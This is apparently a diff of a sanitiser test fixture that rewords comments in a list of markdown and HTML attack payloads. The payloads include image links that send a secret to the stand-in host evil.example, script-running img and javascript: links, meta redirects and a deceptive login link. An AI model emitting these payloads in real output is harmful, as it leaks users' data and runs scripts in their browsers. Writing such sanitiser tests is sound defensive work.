@@ -3,7 +3,7 @@
 const HOST = "https://evil.example";
 
 export const PAYLOADS: string[] = [
-  // Pictures that would tell another host what was read (D1, D2).
+  // Pictures that would leak to another host that they were read (D1, D2).
   `![x](${HOST}/?d=SECRET)`,
   `![x](//evil.example/a.png)`,
   `![x](http://evil.example/a.png "title")`,
@@ -20,7 +20,7 @@ export const PAYLOADS: string[] = [
   `> ![x](${HOST}/quote.png)`,
   `- ![x](${HOST}/list.png)`,
   `# ![x](${HOST}/head.png)`,
-  // Elements that run (D3).
+  // Elements that run scripts (D3).
   `<img src=x onerror=alert(1)>`,
   `<img src="${HOST}/i.png">`,
   `<IMG SRC=JaVaScRiPt:alert(1)>`,
@@ -57,7 +57,7 @@ export const PAYLOADS: string[] = [
   `<meta http-equiv=refresh content="0;url=${HOST}">`,
   `<div style="background:url(${HOST}/d.png)">x</div>`,
   `<p style="position:fixed;inset:0">covered</p>`,
-  // Links that run or hide where they lead (D5).
+  // Links that run scripts or hide their target (D5).
   `[x](javascript:alert(1))`,
   `[x](JAVASCRIPT:alert(1))`,
   `[x](java\tscript:alert(1))`,
@@ -75,7 +75,7 @@ export const PAYLOADS: string[] = [
   `[x](https://user:password@evil.example/)`,
   `[https://bank.example](${HOST}/login?token=${"A".repeat(300)})`,
   `[x](${HOST} "onmouseover=alert(1)")`,
-  // Order of cleaning and rendering (D9), broken ends, streams cut anywhere.
+  // Order of sanitising and rendering (D9), broken ends, streams cut anywhere.
   "`<img src=x onerror=alert(1)>`",
   "```html\n<script>alert(1)</script>\n```",
   "```<script>alert(1)</script>\nx\n```",
